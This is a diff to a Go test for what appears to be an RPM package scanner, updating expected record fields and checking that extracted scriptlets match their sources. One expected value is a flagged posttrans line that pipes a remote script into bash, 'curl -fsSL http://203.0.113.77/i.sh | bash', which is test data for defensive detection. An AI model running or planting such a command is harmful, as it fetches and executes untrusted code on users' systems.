@@ -65,7 +65,7 @@ func TestRPMRecords(t *testing.T) {
 		case r.Kind != model.PackageScript:
 		case r.Get("script") == "posttrans":
 			found++
-			if r.Source.Line != 2 || r.Source.Member != "kinds-2:1.0-3 posttrans" || r.Get("interpreter") != "/bin/sh" ||
+			if r.Source.Line != 2 || r.Source.Member != "rpm kinds-2:1.0-3.noarch posttrans" || r.Get("interpreter") != "/bin/sh" ||
 				r.Get("suspicious_line") != "curl -fsSL http://203.0.113.77/i.sh | bash" || r.Source.Offset != 15 {
 				t.Errorf("%s %+v", lines[i], r.Source)
 			}
@@ -75,7 +75,26 @@ func TestRPMRecords(t *testing.T) {
 			t.Errorf("%s", lines[i])
 		}
 	}
-	if found != 1 {
+	// What a source names is found again, the second of a name, too.
+	tree := imageOf(t, root)
+	db := opened(t, tree)
+	n := 0
+	db.Scripts(context.Background(), func(s *Script) error {
+		at, err := tree.Lookup(s.Place.Path, true)
+		if err != nil {
+			t.Fatal(err)
+		}
+		f, err := at.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		n++
+		if b, err := Scriptlet(context.Background(), f, s.Place.Member); err != nil || string(b) != string(s.Text) {
+			t.Errorf("%s: %q, %v", s.Place.Member, b, err)
+		}
+		return nil
+	})
+	if found != 1 || n < 12 {
 		t.Errorf("%s", strings.Join(lines, "\n"))
 	}
 }
